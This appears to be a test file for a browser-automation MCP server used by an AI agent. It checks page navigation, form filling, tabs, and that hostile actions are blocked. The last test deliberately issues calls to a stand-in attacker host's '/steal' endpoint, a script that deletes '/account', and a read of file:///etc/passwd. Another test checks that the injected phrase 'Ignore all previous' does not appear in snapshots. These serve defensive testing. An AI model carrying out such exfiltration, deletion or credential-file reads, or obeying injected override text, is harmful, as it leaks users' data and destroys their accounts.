import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Served } from '../cli-process.ts';
import { McpClient } from '../support/mcp-client.ts';
import { DEVTOOLS_MCP_PROGRAM } from '../support/mcp-servers.ts';
import { ATTACKER, SITE, startWorkSite, type WorkSite } from './work-site.ts';

let site: WorkSite;
let served: Served;
let mcp: McpClient;

beforeAll(async () => {
  site = await startWorkSite();
  served = await site.serve();
  mcp = await McpClient.start(process.execPath, [
    DEVTOOLS_MCP_PROGRAM,
    '--wsEndpoint',
    served.cdp,
    '--no-usage-statistics',
  ]);
});
afterAll(async () => {
  mcp?.close();
  await served?.stop();
  await site?.close();
});

/** The page that every tool but those of tabs is told to work in. */
const PAGE = { pageId: 1 };

async function done(tool: string, args: Readonly<Record<string, unknown>> = {}): Promise<string> {
  const { isError, text } = await mcp.call(tool, { ...PAGE, ...args });
  expect(isError, text).toBe(false);
  return text;
}

/** The reference of an element in a new snapshot, by role and name. */
async function uidOf(role: string, name: string): Promise<string> {
  const text = await done('take_snapshot');
  const uid = new RegExp(`uid=(\\w+) ${role} "${name}"`).exec(text)?.[1];
  expect(uid, `${role} "${name}" in ${text}`).toBeDefined();
  return uid ?? '';
}

it('navigates, reads, clicks, answers a dialog and takes a picture', async () => {
  await done('navigate_page', { type: 'url', url: `${SITE}/` });
  const text = await done('take_snapshot');
  expect(text).toContain('Add one');
  expect(text).not.toContain('Ignore all previous');
  await done('click', { uid: await uidOf('button', 'Add one') });
  expect(await done('take_snapshot')).toContain('counted 1');
  await done('click', { uid: await uidOf('button', 'Ask me') });
  await done('handle_dialog', { action: 'accept' });
  expect(await done('take_snapshot')).toContain('answered true');
  const { pictures } = await mcp.call('take_screenshot', PAGE);
  expect(pictures).toHaveLength(1);
});

it('works in tabs', async () => {
  await mcp.call('new_page', { url: `${SITE}/second` });
  expect((await mcp.call('list_pages')).text).toContain('/second');
  expect((await mcp.call('select_page', PAGE)).isError).toBe(false);
});

it('fills in a form and sends it', async () => {
  await done('navigate_page', { type: 'url', url: `${SITE}/form` });
  const elements = [
    { uid: await uidOf('textbox', 'Name'), value: 'Ada' },
    { uid: await uidOf('combobox', 'Size'), value: 'large' },
  ];
  await done('fill_form', { elements });
  await done('click', { uid: await uidOf('checkbox', 'Gift') });
  await done('click', { uid: await uidOf('button', 'Send the form') });
  await expect.poll(() => site.requests.at(-1)).toBe('POST work.test/order name=Ada&size=large&gift=on');
});

it('tells of requests without what they carry', async () => {
  expect(await done('list_network_requests')).toContain('work.test');
});

it('cannot be talked into anything that the task does not need', async () => {
  await done('navigate_page', { type: 'url', url: `${SITE}/` });
  await mcp.call('navigate_page', { ...PAGE, type: 'url', url: `${ATTACKER}/steal?a=1` });
  expect(await done('take_snapshot')).toContain('refused');
  await done('navigate_page', { type: 'url', url: `${SITE}/` });
  const script = `async () => { await Promise.allSettled([fetch('/account', { method: 'DELETE' }), fetch('${ATTACKER}/steal', { mode: 'no-cors' })]); }`;
  await done('evaluate_script', { function: script });
  await mcp.call('navigate_page', { ...PAGE, type: 'url', url: 'file:///etc/passwd' });
  expect(await done('take_snapshot')).not.toContain('root:');
  expect(
    site.requests.filter((each) => !each.startsWith('GET work.test') && !each.startsWith('POST work.test/order')),
  ).toEqual([]);
});
